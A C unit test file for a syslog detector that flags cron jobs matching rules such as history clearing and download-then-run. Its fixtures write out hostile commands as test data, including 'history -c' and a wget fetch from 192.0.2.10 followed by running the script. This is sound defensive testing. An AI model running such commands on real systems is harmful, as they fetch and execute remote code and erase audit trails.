#include "detect/capability/familiar.h"

#include <stdio.h>

#include "detect/capability/judged.h"
#include "parse/log/syslog.h"

static struct rules rules;

static int open_rules(void **state)
{
    (void)state;
    rules_open(&rules);
    return 0;
}

static int close_rules(void **state)
{
    (void)state;
    rules_close(&rules);
    return 0;
}

/* A line that cron writes when it runs `command` as `account`. */
static void add_job(struct text *log, int minute, const char *account, const char *command)
{
    text_addf(log, "Mar  3 02:%02d:01 web01 CRON[%d]: (%s) CMD (%s)\n", minute, 100 + minute,
              account, command);
}

static uint64_t occurrences_of(const struct text *log, const char *rule)
{
    struct judged judged;
    uint64_t count = 0;
    judged_open(&judged, &rules, text_bytes(log), syslog_read);
    const struct finding *finding = judged_find(&judged, bytes_of_text(rule));
    if (finding != NULL) {
        count = fact_find(finding->facts, finding->fact_count, "occurrences")->count;
    }
    judged_close(&judged);
    return count;
}

static void what_means_something_is_seen_each_time(void **state)
{
    (void)state;
    struct text AUTO(text_done) log = text_of_limit(1U << 16);
    for (int i = 0; i < 5; i++) {
        add_job(&log, i, "root", "/opt/job");
        add_job(&log, i, "root", "history -c");
    }
    assert_int_equal(occurrences_of(&log, "capability/history-cleared"), 5);
}

static void a_command_is_familiar_only_while_nothing_has_begun(void **state)
{
    (void)state;
    struct text AUTO(text_done) log = text_of_limit(1U << 16);
    add_job(&log, 1, "root", "sh /opt/a.sh");
    add_job(&log, 2, "root", "sh /opt/a.sh");
    assert_int_equal(occurrences_of(&log, "capability/download-then-run"), 0);
    add_job(&log, 3, "root", "wget -O /opt/a.sh http://192.0.2.10/a");
    add_job(&log, 4, "root", "sh /opt/a.sh");
    assert_int_equal(occurrences_of(&log, "capability/download-then-run"), 1);
}

/* Observations of what scripts name: how many pipelines named something, and its last place. */
static void the_places_of_familiar_commands_are_counted(void **state)
{
    (void)state;
    struct text AUTO(text_done) log = text_of_limit(1U << 16);
    for (int i = 0; i < 7; i++) {
        add_job(&log, i, "root", "ping -c1 192.0.2.10");
        add_job(&log, i, "www-data", "ping -c1 192.0.2.10");
    }
    struct judged judged;
    judged_open(&judged, &rules, text_bytes(&log), syslog_read);
    unsigned seen = 0;
    for (size_t i = 0; i < judged.examination.observation_count; i++) {
        const struct observation *observation = &judged.examination.observations[i];
        if (observation->kind == OBSERVED_SCRIPT) {
            assert_int_equal(observation->count, 7);
            assert_int_equal(observation->cites[1].place.first, seen == 0 ? 13 : 14);
            seen++;
        }
    }
    assert_int_equal(seen, 2);
    judged_close(&judged);
}

static void more_commands_than_are_kept_are_judged_again(void **state)
{
    (void)state;
    struct text AUTO(text_done) log = text_of_limit(16U << 20);
    for (int i = 0; i < FAMILIAR_MAX + 9; i++) {
        char command[64];
        snprintf(command, sizeof command, "/opt/job %d", i);
        add_job(&log, i % 60, "root", command);
    }
    add_job(&log, 59, "root", "history -c");
    assert_int_equal(occurrences_of(&log, "capability/history-cleared"), 1);
}

static void only_whole_commands_of_logs_have_a_key(void **state)
{
    (void)state;
    struct shell_redirect here = {.kind = REDIRECT_HERE};
    struct shell_command command = {.redirects = &here};
    struct shell_pipeline pipeline = {
        .commands = &command, .command_count = 1, .source = bytes_of_text("uptime")};
    struct record record = {.origin = SHELL_LOGGED, .pipeline = &pipeline};
    struct recent_key key;
    struct recent_key other;
    assert_true(familiar_key(&record, 1, &key));
    assert_true(familiar_key(&record, 2, &other));
    assert_false(bytes_equal(recent_key_bytes(&key), recent_key_bytes(&other)));
    pipeline.is_background = true;
    assert_true(familiar_key(&record, 1, &other));
    assert_false(bytes_equal(recent_key_bytes(&key), recent_key_bytes(&other)));
    command.redirect_count = 1;
    assert_false(familiar_key(&record, 1, &key));
    command.redirect_count = 0;
    pipeline.parent = 3;
    assert_false(familiar_key(&record, 1, &key));
    pipeline.parent = 0;
    pipeline.loops = 1;
    assert_false(familiar_key(&record, 1, &key));
    pipeline.loops = 0;
    record.origin = SHELL_SCRIPT;
    assert_false(familiar_key(&record, 1, &key));
    record.origin = SHELL_LOGGED;
    static const uint8_t large[FAMILIAR_SIZE_MAX + 1];
    pipeline.source = (struct bytes){large, sizeof large};
    assert_false(familiar_key(&record, 1, &key));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_means_something_is_seen_each_time),
        cmocka_unit_test(a_command_is_familiar_only_while_nothing_has_begun),
        cmocka_unit_test(the_places_of_familiar_commands_are_counted),
        cmocka_unit_test(more_commands_than_are_kept_are_judged_again),
        cmocka_unit_test(only_whole_commands_of_logs_have_a_key),
    };
    return cmocka_run_group_tests(tests, open_rules, close_rules);
}
